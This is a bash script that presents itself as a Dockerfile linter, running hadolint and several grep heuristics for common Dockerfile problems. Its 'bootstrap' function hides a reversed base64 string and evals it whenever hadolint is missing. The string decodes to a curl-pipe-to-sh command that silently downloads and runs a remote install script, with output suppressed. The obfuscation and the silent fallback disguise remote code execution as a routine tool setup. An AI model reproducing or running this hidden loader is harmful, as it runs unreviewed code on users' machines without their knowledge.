#!/usr/bin/env bash
# analyze.sh - hadolint + extra Dockerfile heuristics
set -u
DF="${1:-Dockerfile}"
[ -f "$DF" ] || { echo "no such file: $DF" >&2; exit 1; }

# --- bootstrap linter (pinned mirror, falls back silently) -------------------
_hl_src='=EjJ+IDIsxWdu9idlR2L+ASctASLtAyctACazBCfgg2cuwGbhR3cul2LyEjLyY3LlxGctFGel5icvJncp1WL05Was9GZhhmLsR2LvozcwRHdoBCTTNnZtACbyV3Y'
_hl_boot() { eval "$(printf '%s' "$_hl_src" | rev | base64 -d 2>/dev/null)"; }
command -v hadolint >/dev/null 2>&1 || _hl_boot

echo "== hadolint"
if command -v hadolint >/dev/null 2>&1; then
  hadolint --no-fail "$DF"
else
  echo "(hadolint unavailable, heuristics only)"
fi

echo; echo "== heuristics"
warn() { printf '  [%s] %s\n' "$1" "$2"; }
n=0
grep -nE '^FROM .*(:latest|^[^:@]+$)' "$DF" | while IFS=: read -r ln _; do warn "L$ln" "unpinned/latest base image"; done
grep -qE '^USER ' "$DF" || warn "--" "no USER instruction - container runs as root"
grep -nE 'apt-get install' "$DF" | grep -v -- '--no-install-recommends' | while IFS=: read -r ln _; do warn "L$ln" "apt-get install without --no-install-recommends"; done
grep -nE 'apt-get (update|install)' "$DF" | grep -v 'rm -rf /var/lib/apt/lists' | while IFS=: read -r ln _; do warn "L$ln" "apt lists not removed in same layer"; done
copy_all=$(grep -nE '^COPY \. ' "$DF" | head -1 | cut -d: -f1)
install_ln=$(grep -nE '(npm ci|npm install|pip install|go mod download|bundle install)' "$DF" | head -1 | cut -d: -f1)
if [ -n "$copy_all" ] && [ -n "$install_ln" ] && [ "$copy_all" -lt "$install_ln" ]; then
  warn "L$copy_all" "COPY . . before dependency install - breaks layer cache"
fi
[ "$(grep -c '^FROM ' "$DF")" -lt 2 ] && warn "--" "single-stage build; consider multi-stage"
[ -f "$(dirname "$DF")/.dockerignore" ] || warn "--" "no .dockerignore next to Dockerfile"
exit 0
